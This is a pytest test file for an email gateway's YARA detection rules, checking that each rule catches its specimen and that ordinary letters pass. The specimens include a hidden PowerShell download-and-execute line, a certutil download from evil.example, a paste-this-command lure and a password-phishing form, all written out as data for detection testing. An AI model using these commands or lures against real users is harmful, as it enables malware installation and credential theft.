"""Our own rules: each finds its specimen, letters of people match none, and bad rules are refused with their place."""

from __future__ import annotations

import base64
from pathlib import Path

import pytest

from gateway.anatomy.examine import examine
from gateway.checks.yara import MAX_MATCHES, Rules, RulesError, compile_rules

ROOT = Path(__file__).parents[2]
FOLDER = ROOT / "policies" / "yara"
RULES = Rules(compile_rules(FOLDER))

PROGRAM = base64.b64encode(bytes.fromhex("4d5a90000300000004000000ffff0000") + bytes(300)).decode()
ONENOTE = bytes.fromhex("e4525c7b8cd8a74d") + bytes(40) + bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac")
SHORTCUT = bytes.fromhex("4c0000000114020000000000c000000000000046")
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"

SPECIMENS = {
    "eicar_test_file": EICAR,
    "powershell_downloader": b"powershell -w hidden IEX(New-Object Net.WebClient).DownloadString('http://evil.example')",
    "powershell_encoded_command": b"powershell.exe -nop -enc " + b"SQBFAFgA" * 20,
    "script_host_dropper": b'new ActiveXObject("WScript.Shell");new ActiveXObject("MSXML2.XMLHTTP");s.Run("a");',
    "living_off_the_land": b"certutil.exe -urlcache -split -f http://evil.example/a.exe a.exe",
    "program_inside_script": f"<script>var a='{PROGRAM}'</script>".encode(),
    "shortcut_to_interpreter": SHORTCUT + bytes(60) + "powershell -c x".encode("utf-16-le"),
    "internet_shortcut_to_share": b"[InternetShortcut]\r\nURL=file://198.51.100.7/share/a.exe\r\n",
    "equation_editor_object": b"{\\rtf1{\\object{\\*\\objdata 4571756174696f6e2e33}}}",
    "notes_with_a_script": ONENOTE + bytes(20) + b"@echo off\r\npowershell",
    "lure_page_that_asks_for_a_password": b"<form action='https://evil.example/p'><input name=p type=password></form>",
    "lure_page_that_reports_to_a_bot": b"<input id=a><script>fetch('https://api.telegram.org/bot1:A/sendMessage')</script>",
    "lure_paste_this_to_prove_you_are_human": b"Press <b>Windows</b> + <b>R</b>, then Ctrl + V "
    b"<script>navigator.clipboard.writeText('powershell -w h')</script>",
    "lure_paid_or_shown": b"I recorded you by your webcam. "
    b"Pay in bitcoin to bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq",
}


@pytest.mark.parametrize("rule", SPECIMENS)
def test_every_rule_finds_its_specimen(rule):
    assert rule in RULES.search(SPECIMENS[rule])


def test_every_rule_has_a_specimen():
    written = [
        line.split()[1]
        for file in sorted(FOLDER.glob("*.yar"))
        for line in file.read_text().splitlines()
        if line.startswith("rule ")
    ]
    assert set(written) == set(SPECIMENS)


@pytest.mark.parametrize(
    "letter",
    [
        b"We updated the PowerShell module; use Invoke-WebRequest to download the report.",
        b"Please reset your password at https://intranet.example/ before Monday.",
        b"[InternetShortcut]\r\nURL=https://www.example.org/\r\n",
        b"Bitcoin fell again; bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq is our donation address.",
        b"<p>Copy with Ctrl + C and paste with Ctrl + V.</p><script>document.execCommand('copy')</script>",
        b"the file X5O!P%@AP is called EICAR",
    ],
)
def test_letters_of_people_match_nothing(letter):
    assert RULES.search(letter) == []


def test_honest_samples_match_nothing():
    found = {}
    for sample in sorted((ROOT / "tests" / "suites" / "mime" / "samples").glob("ok-*.eml")):
        matches: list[str] = []
        examine(sample.read_bytes(), watch=lambda octets, into=matches: into.extend(RULES.search(octets)))
        found[sample.name] = matches
    assert found
    assert {name: each for name, each in found.items() if set(each) - {"eicar_test_file"}} == {}


def test_rules_that_cannot_be_used_are_refused_with_their_place(tmp_path):
    (tmp_path / "bad.yar").write_text("rule a { condition: nonsense }")
    with pytest.raises(RulesError, match=r"bad\.yar"):
        compile_rules(tmp_path)


def test_rules_may_not_include_files(tmp_path):
    (tmp_path / "other.txt").write_text("rule b { condition: true }")
    (tmp_path / "a.yar").write_text('include "other.txt"')
    with pytest.raises(RulesError):
        compile_rules(tmp_path)


def test_no_rules_are_no_error(tmp_path):
    assert compile_rules(tmp_path) == b""
    assert compile_rules(tmp_path / "absent") == b""


def test_matches_are_few_and_each_is_named_once():
    fact = RULES.fact([f"r{number % 50}" for number in range(500)])
    assert len(fact.matches) == MAX_MATCHES
    assert fact.rules == RULES.version
